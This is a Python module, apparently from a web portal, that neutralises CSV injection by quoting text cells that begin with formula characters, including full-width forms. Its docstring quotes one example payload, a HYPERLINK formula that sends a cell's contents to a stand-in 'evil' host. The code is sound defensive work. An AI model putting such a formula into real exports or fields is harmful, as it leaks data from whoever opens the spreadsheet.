"""CSV for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell beginning with `=`, `+`, `-` or `@` (and, in
some versions, a leading tab or carriage return) as a formula: an account named
`=HYPERLINK("http://evil/?"&A1)` would run when a manager opens the export (OWASP "CSV
injection"). Such text cells get a leading single quote, which the spreadsheet shows as text.

Numbers the portal computes itself (int, Decimal) are written as they are: a number cannot carry
a formula, and quoting a negative balance would turn it into text that no longer sums.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal

# The full-width forms too: some East Asian spreadsheet builds read them as their ASCII twins,
# and this portal's users type Traditional Chinese.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_safe(value: object) -> str:
    """Return the cell text of `value`, with a quote before text that would start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write returns what it was given (for streaming csv rows)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Yield the CSV text of the header and each row, every cell passed through csv_safe.

    Made for StreamingHttpResponse: one short string per row, nothing held in memory.
    """
    writer = csv.writer(_Echo())
    yield writer.writerow([csv_safe(cell) for cell in header])
    for row in rows:
        yield writer.writerow([csv_safe(cell) for cell in row])
